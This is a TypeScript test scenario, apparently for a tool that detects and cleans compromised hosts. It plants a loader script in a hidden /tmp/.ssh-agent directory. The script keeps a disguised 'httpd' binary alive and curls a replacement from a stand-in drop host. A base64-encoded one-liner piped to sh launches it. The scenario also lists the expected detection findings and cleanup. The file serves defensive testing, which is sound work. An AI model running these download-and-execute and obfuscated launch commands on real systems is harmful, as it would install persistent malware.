import { scenario } from '../scenario.ts';
import { dropHost } from '../words.ts';

export default scenario({
  what: 'a loader that hangs in its download, and a decoded one-liner',
  report: 'The procedure’s i.sh, started as `echo … | base64 -d | sh`.',
  plant: {
    images: ['/tmp/.ssh-agent/httpd'],
    files: {
      '/tmp/.ssh-agent/i.sh': `#!/bin/sh
pgrep -x httpd >/dev/null || nohup /tmp/.ssh-agent/httpd >/dev/null 2>&1 &
curl -fsSL http://${dropHost}/httpd.new -o /tmp/.ssh-agent/httpd.new && chmod +x /tmp/.ssh-agent/httpd.new
`,
    },
    start: `echo ${Buffer.from('(exec setsid nohup sh /tmp/.ssh-agent/i.sh >/dev/null 2>&1 </dev/null) &\n').toString('base64')} | base64 -d | sh`,
    runs: ['/tmp/.ssh-agent/i.sh', '/tmp/.ssh-agent/httpd', 'httpd.new'],
  },
  expect: {
    verdict: 'confirmed',
    ticked: {
      processes: ['/tmp/.ssh-agent/i.sh', '/tmp/.ssh-agent/httpd'],
      files: ['/tmp/.ssh-agent/i.sh', '/tmp/.ssh-agent/httpd'],
    },
    may: [`curl -fsSL http://${dropHost}/httpd.new -o /tmp/.ssh-agent/httpd.new`],
    resolution: 'cleaned',
  },
});
